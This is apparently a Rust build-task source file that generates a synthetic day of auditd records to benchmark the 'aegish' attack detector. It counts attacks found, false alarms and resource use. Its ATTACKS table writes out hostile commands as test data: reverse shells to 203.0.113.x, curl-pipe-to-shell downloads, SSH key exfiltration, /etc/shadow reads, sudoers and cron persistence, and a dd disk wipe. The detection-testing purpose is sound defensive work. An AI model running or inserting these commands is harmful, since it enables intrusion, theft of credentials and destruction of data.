//! `cargo xtask audit-day`: a made-up day of audit records with hidden attacks, judged by `aegish judge-log`.
//!
//! The records go through a pipe, so that a day of millions of processes needs no disk. Which processes are attacks is
//! known, so that attacks found and false alarms can be counted. The same seed makes the same day.

use clap::Args;
use serde::Deserialize;
use std::collections::HashMap;
use std::fmt::Write as _;
use std::fs;
use std::io::{BufRead as _, BufReader, BufWriter};
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::time::Instant;

/// Seconds since 1970 at the start of the day.
const START: u64 = 1_780_000_000;

#[derive(Args)]
pub(crate) struct Options {
    /// The binary that judges
    #[arg(long, value_name = "FILE")]
    aegish: PathBuf,
    /// Processes that are started
    #[arg(long, default_value_t = 5_000_000)]
    execs: u64,
    /// Login sessions
    #[arg(long, default_value_t = 1000)]
    sessions: u64,
    /// Attacks among them, each of one to four processes
    #[arg(long, default_value_t = 300)]
    attacks: u64,
    /// Parts of the day whose rate and memory are told, as a session that grows must not cost more
    #[arg(long, default_value_t = 1)]
    parts: u64,
    /// The number by which the day is made
    #[arg(long, default_value_t = 1)]
    seed: u64,
}

/// Ordinary work. `{n}` is a number, `{w}` a word.
const WORK: &[&[&str]] = &[
    &["ls", "-la", "/srv/{w}"],
    &["cat", "/srv/{w}/config-{n}.yaml"],
    &["grep", "-rn", "TODO {n}", "src"],
    &["git", "status", "--short"],
    &["git", "commit", "-m", "Fix {w} {n}; see #{n}"],
    &["git", "log", "--oneline", "-n", "{n}"],
    &["sed", "-n", "{n}p", "/var/log/{w}.log"],
    &["awk", "{print $1}", "access-{n}.log"],
    &["find", "/srv/{w}", "-name", "*.log", "-mtime", "+{n}"],
    &["tar", "czf", "/backup/{w}-{n}.tar.gz", "/srv/{w}"],
    &["cp", "-a", "build/{w}", "/srv/{w}/releases/{n}"],
    &["mv", "{w}.tmp", "{w}-{n}.csv"],
    &["mkdir", "-p", "/srv/{w}/{n}"],
    &["rm", "-f", "/srv/{w}/cache/{n}.tmp"],
    &["python3", "manage.py", "migrate"],
    &["python3", "-c", "print({n} + 1)"],
    &["node", "server-{n}.js"],
    &["npm", "run", "build"],
    &["make", "-j{n}", "{w}"],
    &["gcc", "-O2", "-c", "{w}.c", "-o", "{w}-{n}.o"],
    &["sh", "-c", "test -f /srv/{w}/{n} && echo yes"],
    &["bash", "-c", "cd /srv/{w} && git pull --ff-only"],
    &["date", "+%s"],
    &["sleep", "{n}"],
    &["wc", "-l", "{w}-{n}.csv"],
    &["sort", "-u", "{w}.txt"],
    &["head", "-n", "{n}", "/var/log/{w}.log"],
    &["tail", "-n", "{n}", "/var/log/{w}/error.log"],
    &["/usr/sbin/logrotate", "/etc/logrotate.conf"],
    &["systemctl", "status", "{w}"],
    &["journalctl", "-u", "{w}", "--since", "-{n}min"],
    &["docker", "ps"],
    &["docker", "logs", "--tail", "{n}", "{w}"],
    &["kubectl", "get", "pods", "-n", "{w}"],
    &["psql", "-c", "select count(*) from {w}"],
    &["df", "-h"],
    &["du", "-sh", "/srv/{w}"],
    &["uname", "-r"],
    &["/bin/sh", "-e", "/usr/lib/{w}/run-{n}"],
    &["rsync", "-a", "/srv/{w}/", "/backup/{w}/"],
    &["gzip", "-9", "/var/log/{w}.log.{n}"],
    &["ssh-keygen", "-lf", "/etc/ssh/ssh_host_ed25519_key.pub"],
    &["tee", "/srv/{w}/status-{n}"],
    &["dpkg-query", "-W", "{w}"],
    &["ln", "-sfn", "/srv/{w}/releases/{n}", "/srv/{w}/current"],
    &["rm", "-rf", "/srv/{w}/releases/{n}"],
    &["sha256sum", "-c", "{w}-{n}.sha256"],
    &["python3", "-c", "import json, sys; print(json.load(sys.stdin)[{n}])"],
];

/// Attacks as the processes that they start. `name@file` is a program that goes by the name of another one.
const ATTACKS: &[&[&[&str]]] = &[
    &[&["bash", "-c", "bash -i >& /dev/tcp/203.0.113.{n}/4444 0>&1"]],
    &[&["cat", "/etc/shadow"]],
    &[
        &["curl", "-so", "/tmp/{w}", "http://203.0.113.{n}/{w}"],
        &["chmod", "+x", "/tmp/{w}"],
        &["/tmp/{w}"],
    ],
    &[&["wget", "-qO", "/tmp/{w}.sh", "http://203.0.113.{n}/i"], &["bash", "/tmp/{w}.sh"]],
    &[&["sh", "-c", "curl -s http://203.0.113.{n}/i | sh"]],
    &[&["python3", "-c", "import pty; pty.spawn('/bin/sh')"]],
    &[&["find", ".", "-exec", "/bin/sh", ";"]],
    &[&["nc", "-e", "/bin/sh", "203.0.113.{n}", "9001"]],
    &[&["cp", "/bin/bash", "/tmp/.{w}"], &["chmod", "u+s", "/tmp/.{w}"]],
    &[&["sh", "-c", "echo '{w} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"]],
    &[&["sh", "-c", "echo '* * * * * curl -s http://203.0.113.{n}/x | sh' | crontab -"]],
    &[&["sh", "-c", "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh"]],
    &[&["tee", "-a", "/root/.ssh/authorized_keys"]],
    &[&["env", "LD_PRELOAD=/tmp/{w}.so", "id"]],
    &[&["curl", "-sF", "f=@/home/{w}/.ssh/id_rsa", "http://203.0.113.{n}/"]],
    &[&["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"]],
    &[&["perl", "-e", "use Socket; exec '/bin/sh';"]],
    &[&["awk", "BEGIN {system(\"/bin/sh\")}"]],
    &[&["tar", "cf", "/dev/null", "x", "--checkpoint=1", "--checkpoint-action=exec=/bin/sh"]],
    &[&["ls@/usr/bin/nc", "-e", "/bin/sh", "203.0.113.{n}", "9001"]],
    &[&["docker", "run", "-v", "/:/mnt", "--rm", "-it", "alpine", "chroot", "/mnt", "sh"]],
];

const WORDS: &[&str] = &["web", "api", "billing", "search", "mail", "report", "queue", "media"];

/// Random numbers: xorshift64*.
struct Random(u64);

impl Random {
    fn below(&mut self, limit: u64) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        (self.0.wrapping_mul(0x2545_F491_4F6C_DD1D) >> 16) % limit.max(1)
    }

    fn one<T: Copy>(&mut self, list: &[T]) -> Option<T> {
        list.get(self.below(list.len() as u64) as usize).copied()
    }
}

/// The processes of attacks: number of the attack by number of the process.
type Hidden = HashMap<u64, u64>;

struct Day {
    random: Random,
    sessions: u64,
    serial: u64,
    execs: u64,
    hidden: Hidden,
}

impl Day {
    /// Writes the records of one process.
    fn exec(&mut self, session: u64, words: &[String], of: Option<u64>, text: &mut String) {
        self.serial += 1;
        let serial = self.serial;
        // Process ids are unique here, so that an answer names its process.
        let (pid, parent, user) = (100_000 + serial, 1000 + session, 1000 + session % 200);
        if let Some(attack) = of {
            self.hidden.insert(pid, attack);
        }
        let milliseconds = serial * 86_400_000 / self.execs.max(1);
        let (second, rest) = (START + milliseconds / 1000, milliseconds % 1000);
        let host = session % 50;
        let first = words.first().map_or("", String::as_str);
        let (name, file) = match first.split_once('@') {
            Some((name, file)) => (name, file.to_owned()),
            None => (first, file_of(first)),
        };
        let event = format!("msg=audit({second}.{rest:03}:{serial}):");
        let _ = writeln!(
            text,
            "node=host{host} type=SYSCALL {event} arch=c000003e syscall=59 success=yes exit=0 items=2 ppid={parent} \
             pid={pid} auid={user} uid={user} gid={user} euid={user} tty=pts0 ses={session} comm=\"x\" exe=\"{file}\" \
             key=\"exec\""
        );
        let _ = write!(text, "node=host{host} type=EXECVE {event} argc={}", words.len());
        let rest = words.iter().skip(1).map(String::as_str);
        for (index, word) in std::iter::once(name).chain(rest).enumerate() {
            let plain = |c: char| c.is_ascii_graphic() && c != '"';
            if word.chars().all(plain) {
                let _ = write!(text, " a{index}=\"{word}\"");
            } else {
                let _ = write!(text, " a{index}=");
                for byte in word.bytes() {
                    let _ = write!(text, "{byte:02X}");
                }
            }
        }
        let _ = writeln!(
            text,
            "\nnode=host{host} type=CWD {event} cwd=\"/srv/app\"\nnode=host{host} type=PROCTITLE {event} proctitle=78"
        );
    }

    /// The words of a template with one choice of number and word.
    fn words(template: &[&str], number: u64, word: &str) -> Vec<String> {
        let fill = |part: &&str| part.replace("{n}", &number.to_string()).replace("{w}", word);
        template.iter().map(fill).collect()
    }

    fn work(&mut self, text: &mut String) {
        let session = 1 + self.random.below(self.sessions);
        let template = self.random.one(WORK).unwrap_or_default();
        let (number, word) =
            (1 + self.random.below(200), self.random.one(WORDS).unwrap_or_default());
        self.exec(session, &Self::words(template, number, word), None, text);
    }

    /// One attack, with ordinary work of others between its processes.
    fn attack(&mut self, attack: u64, text: &mut String) -> u64 {
        let session = 1 + self.random.below(self.sessions);
        let steps = ATTACKS.get(attack as usize % ATTACKS.len()).copied().unwrap_or_default();
        let (number, word) =
            (1 + self.random.below(200), self.random.one(WORDS).unwrap_or_default());
        let mut written = 0;
        for step in steps {
            self.exec(session, &Self::words(step, number, word), Some(attack), text);
            for _ in 0..3 {
                self.work(text);
            }
            written += 4;
        }
        written
    }
}

/// The file of a program, as a Debian has it.
fn file_of(name: &str) -> String {
    match name {
        "sh" | "/bin/sh" => "/usr/bin/dash".to_owned(),
        "awk" => "/usr/bin/mawk".to_owned(),
        "python3" => "/usr/bin/python3.11".to_owned(),
        _ if name.starts_with('/') => name.to_owned(),
        _ => format!("/usr/bin/{name}"),
    }
}

/// What counts of an answer.
#[derive(Deserialize)]
struct Answer {
    pid: u64,
    action: String,
    command: String,
    rule_name: String,
}

pub(crate) fn run(options: &Options) -> Result<(), String> {
    let started = Instant::now();
    let mut child = Command::new(&options.aegish)
        .args(["judge-log", "--format", "auditd", "--jsonl", "-", "--at-least", "warn", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .map_err(|error| format!("{}: {error}", options.aegish.display()))?;
    let (Some(input), Some(output)) = (child.stdin.take(), child.stdout.take()) else {
        return Err("the judge has no streams".to_owned());
    };
    let answers = std::thread::spawn(move || {
        let lines = BufReader::new(output).lines().map_while(Result::ok);
        lines.filter_map(|line| serde_json::from_str(&line).ok()).collect::<Vec<Answer>>()
    });
    let mut day = Day {
        random: Random(options.seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1),
        sessions: options.sessions,
        serial: 0,
        execs: options.execs,
        hidden: HashMap::new(),
    };
    let mut marks = vec![(0, 0.0)];
    let mut held = Vec::new();
    let mut mark = |serial: u64| {
        marks.push((serial, seconds_of(child.id()).unwrap_or_default()));
        held.push(memory_of(child.id(), "VmRSS:"));
    };
    let output = BufWriter::with_capacity(1 << 20, input);
    let bytes = write_day(options, &mut day, output, &mut mark)?;
    let peak = memory_of(child.id(), "VmHWM:");
    let answers = answers.join().map_err(|_| "the answers were not read")?;
    let ended = child.wait().map_err(|error| error.to_string())?;
    let seconds = started.elapsed().as_secs_f64();
    if !ended.success() {
        return Err(format!("the judge ended with {ended}"));
    }
    report(options, &day, &answers);
    let children = nix::sys::resource::getrusage(nix::sys::resource::UsageWho::RUSAGE_CHILDREN);
    if let Ok(used) = children {
        let time =
            |value: nix::sys::time::TimeVal| value.tv_sec() as f64 + value.tv_usec() as f64 / 1e6;
        let cpu = time(used.user_time()) + time(used.system_time());
        println!(
            "| CPU time of the judge | {cpu:.0} s, {:.0} processes per CPU second |",
            day.serial as f64 / cpu
        );
    }
    if options.parts > 1 {
        let rates = marks
            .iter()
            .zip(marks.iter().skip(1))
            .map(|(from, to)| format!("{:.0}", (to.0 - from.0) as f64 / (to.1 - from.1).max(0.01)));
        let rates = rates.collect::<Vec<String>>().join(", ");
        println!("| processes per CPU second, part by part | {rates} |");
        println!("| memory, part by part | {} |", held.join(", "));
    }
    println!("| wall time with the generator | {seconds:.0} s |");
    println!("| peak memory at the end of the input | {peak} |");
    println!("| audit records | {} MB |", bytes / 1_000_000);
    Ok(())
}

/// A row of what the kernel tells about the memory of a process.
fn memory_of(process: u32, row: &str) -> String {
    let status = fs::read_to_string(format!("/proc/{process}/status")).unwrap_or_default();
    let found = status.lines().find_map(|line| line.strip_prefix(row)?.trim().strip_suffix(" kB"));
    let found = found.and_then(|kilobytes| kilobytes.parse::<u64>().ok());
    found.map_or("unknown".to_owned(), |kilobytes| format!("{} MB", kilobytes * 1024 / 1_000_000))
}

/// CPU time of a process so far, in seconds.
fn seconds_of(process: u32) -> Option<f64> {
    let text = fs::read_to_string(format!("/proc/{process}/stat")).ok()?;
    let fields = text.rsplit_once(')')?.1;
    let ticks = fields.split_whitespace().skip(11).take(2).map(|field| field.parse::<u64>().ok());
    // Linux counts a hundred in a second, whatever its kernel does.
    Some(ticks.sum::<Option<u64>>()? as f64 / 100.0)
}

fn write_day(
    options: &Options,
    day: &mut Day,
    mut output: impl std::io::Write,
    mark: &mut dyn FnMut(u64),
) -> Result<u64, String> {
    let (mut text, mut bytes, mut attack) = (String::new(), 0, 0);
    let between = options.execs / options.attacks.max(1);
    let part = (options.execs / options.parts.max(1)).max(1);
    let mut next = part;
    while day.serial < options.execs {
        if attack < options.attacks && day.serial >= attack * between {
            day.attack(attack, &mut text);
            attack += 1;
        } else {
            day.work(&mut text);
        }
        if text.len() > 1 << 16 {
            output
                .write_all(text.as_bytes())
                .map_err(|error| format!("the judge stopped: {error}"))?;
            bytes += text.len() as u64;
            text.clear();
        }
        if day.serial >= next {
            mark(day.serial);
            next += part;
        }
    }
    output.write_all(text.as_bytes()).map_err(|error| format!("the judge stopped: {error}"))?;
    output.flush().map_err(|error| format!("the judge stopped: {error}"))?;
    Ok(bytes + text.len() as u64)
}

fn report(options: &Options, day: &Day, answers: &[Answer]) {
    let mut found: HashMap<u64, &str> = HashMap::new();
    let mut alarms: HashMap<(&str, &str), (u64, &str)> = HashMap::new();
    let (mut blocked, mut asked) = (0, 0);
    for answer in answers {
        match day.hidden.get(&answer.pid) {
            Some(attack) => {
                let known = found.entry(*attack).or_insert(&answer.action);
                if answer.action == "block" {
                    *known = "block";
                }
            }
            None => {
                let count = if answer.action == "block" { &mut blocked } else { &mut asked };
                *count += 1;
                let alarm = alarms.entry((&answer.action, &answer.rule_name)).or_default();
                *alarm = (alarm.0 + 1, &answer.command);
            }
        }
    }
    let stopped = found.values().filter(|action| **action == "block").count();
    println!("| | |\n|---|---|");
    println!("| processes, sessions | {}, {} |", day.serial, options.sessions);
    println!("| attacks hidden | {} |", options.attacks);
    println!(
        "| attacks found | {} ({stopped} blocked, {} asked about) |",
        found.len(),
        found.len() - stopped
    );
    println!("| harmless processes blocked | {blocked} |");
    println!("| harmless processes asked about | {asked} |");
    for attack in (0..options.attacks).filter(|attack| !found.contains_key(attack)) {
        let steps = ATTACKS.get(attack as usize % ATTACKS.len());
        eprintln!("not found: {attack}: {steps:?}");
    }
    for ((action, rule), (count, example)) in alarms {
        eprintln!("false alarm, {count} times: {action} {rule}: {example}");
    }
}
